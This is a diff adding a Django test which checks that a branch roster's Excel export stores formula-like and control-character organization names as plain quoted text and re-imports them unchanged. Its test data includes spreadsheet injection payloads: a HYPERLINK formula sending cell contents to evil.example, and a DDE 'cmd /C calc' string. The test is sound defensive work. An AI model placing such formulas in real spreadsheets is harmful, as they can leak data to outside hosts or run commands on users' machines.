@@ -183,3 +183,32 @@ def test_checking_a_reimport_takes_the_same_queries_at_any_size(size, django_ass
     rows = rows[2:]
     with django_assert_num_queries(2):
         assert roster.check(upload(rows)).ok
+
+
+def test_the_export_writes_hostile_names_as_text_and_reimports_unchanged(tree, client_for):
+    from django.urls import reverse
+
+    hostile = {"=HYPERLINK(\"http://evil.example/?\"&A2,\"点此\")": "=HYPERLINK(\"http://evil.example/?\"&A2,\"点此\")",
+               "+cmd|' /C calc'!A0": "+cmd|' /C calc'!A0", "-1+1": "-1+1", "@SUM(A1:A9)": "@SUM(A1:A9)",
+               "响铃\x07转义\x1b[31m党支部": "响铃转义[31m党支部"}
+    branches = [tree.branch_a1, tree.branch_a2, tree.branch_b1, tree.unit_a, tree.unit_b]
+    for organization, name in zip(branches, hostile):
+        Organization.objects.filter(pk=organization.pk).update(name=name, founded_on=datetime.date(2015, 3, 1))
+    response = client_for(tree.staff).get(reverse("branches:roster_export"))
+    assert response.status_code == 200
+    data = b"".join(response.streaming_content)
+    sheet = load_workbook(io.BytesIO(data)).active
+    assert sheet.freeze_panes == "A2" and sheet["A1"].font.b
+    names = {row[1].value: row[1] for row in sheet.iter_rows(min_row=2)}
+    for name in hostile.values():
+        assert names[name].data_type == "s"
+        assert names[name].quotePrefix == (name[0] in "=+-@")
+    founded = next(row[6] for row in sheet.iter_rows(min_row=2) if row[0].value == tree.branch_a1.code)
+    assert founded.is_date and founded.number_format == "yyyy-mm-dd"
+    # The file imports back: the formula-like names unchanged; only the dropped control characters differ.
+    Organization.objects.filter(name__contains="\x07").update(name="响铃转义[31m党支部")
+    result = roster.check(upload(content=data))
+    assert result.ok, result.problems
+    assert roster.apply(result, actor=None)["updated"] == 0
+    assert set(Organization.objects.filter(pk__in=[b.pk for b in branches]).values_list("name", flat=True)) == set(
+        hostile.values())
